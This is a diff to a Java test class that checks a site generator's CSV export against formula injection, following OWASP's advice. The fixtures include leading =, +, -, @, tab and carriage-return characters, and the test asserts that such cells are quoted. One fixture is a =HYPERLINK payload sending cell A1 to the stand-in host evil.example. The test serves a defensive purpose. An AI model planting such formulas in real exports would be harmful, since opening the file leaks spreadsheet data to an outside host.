@@ -59,6 +59,18 @@ class OpenDataTest {
         Coffee costs 3.20 there. {claim="cost/coffee" value="3.20" source="survey"}
 
         Coffee costs 3.50 at the station. {claim="cost/coffee" value="3.5" source="almanac"}
+        -- criteria/change.md --
+        ---
+        title: "Change in price"
+        group: practical
+        type: number
+        unit: EUR
+        better: lower
+        question: "How did the price change this year?"
+        verdicts:
+          cocoa: {value: -0.50, summary: "Cheaper."}
+        ---
+        Text.
         -- criteria/origin.md --
         ---
         title: "Origin"
@@ -66,9 +78,9 @@ class OpenDataTest {
         type: text
         question: "Where does it come from?"
         verdicts:
-          tea: {text: "China", summary: ""}
-          coffee: {text: "Ethiopia", summary: ""}
-          cocoa: {text: "Mesoamerica", summary: ""}
+          tea: {text: "China", summary: "+1 for the leaves", disputed: "@SUM(1+1)"}
+          coffee: {text: "Ethiopia", summary: "\\tTabbed", disputed: "\\rReturned"}
+          cocoa: {text: "=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"Mesoamerica\\")", summary: "-2+3"}
         ---
         Text.
         """);
@@ -168,7 +180,7 @@ class OpenDataTest {
     assertTrue(csv.contains("\r\n"), "RFC 4180 records end in CRLF");
     List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
         .parse(new StringReader(csv)).getRecords();
-    assertEquals(5 * 3, records.size(), "5 criteria, 3 subjects");
+    assertEquals(6 * 3, records.size(), "6 criteria, 3 subjects");
     CSVRecord teaCost = records.stream().filter(r -> r.get("criterion").equals("cost") && r.get("subject").equals("tea")).findFirst().orElseThrow();
     assertEquals("2.5", teaCost.get("value"));
     assertEquals("EUR", teaCost.get("unit"));
@@ -181,6 +193,34 @@ class OpenDataTest {
     assertEquals("2", records.stream().filter(r -> r.get("criterion").equals("cost") && r.get("subject").equals("coffee"))
         .findFirst().orElseThrow().get("passages"));
     assertEquals(OpenData.CSV_HEADER, List.copyOf(CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getHeaderNames()));
+  }
+
+  /**
+   * OWASP's "CSV Injection" advice: a text cell beginning with {@code = + - @}, a tab or a carriage return gets a
+   * leading {@code '} so a spreadsheet shows it as text instead of running it; a number Versus writes in the
+   * {@code value} column keeps its minus sign (it is a number, never a formula); compare.json keeps every
+   * value as written.
+   */
+  @Test
+  void csvCellsThatASpreadsheetWouldRunAreQuotedAndJsonKeepsThemAsWritten() throws Exception {
+    List<CSVRecord> origin = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+        .parse(new StringReader(TestSites.read(out.resolve("compare.csv")))).getRecords().stream()
+        .filter(r -> r.get("criterion").equals("origin")).toList();
+    assertEquals("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Mesoamerica\")", origin.get(2).get("text"));
+    assertEquals("'-2+3", origin.get(2).get("summary"));
+    assertEquals("'+1 for the leaves", origin.get(0).get("summary"));
+    assertEquals("'@SUM(1+1)", origin.get(0).get("disputed"));
+    assertEquals("'\tTabbed", origin.get(1).get("summary"));
+    assertEquals("'\rReturned", origin.get(1).get("disputed"));
+    assertEquals("China", origin.get(0).get("text"), "nothing else changes");
+    CSVRecord cocoaChange = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+        .parse(new StringReader(TestSites.read(out.resolve("compare.csv")))).getRecords().stream()
+        .filter(r -> r.get("criterion").equals("change") && r.get("subject").equals("cocoa")).findFirst().orElseThrow();
+    assertEquals("-0.50", cocoaChange.get("value"), "a number keeps its sign");
+    // read back, so the check holds whatever the writer escapes (Gson writes = and & as \\u003d and \\u0026)
+    String json = JsonParser.parseString(TestSites.read(out.resolve("compare.json"))).toString();
+    assertTrue(json.contains("=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"Mesoamerica\\\")\""), json);
+    assertTrue(json.contains("\"-2+3\"") && !json.contains("'"), json);
   }
 
   @Test
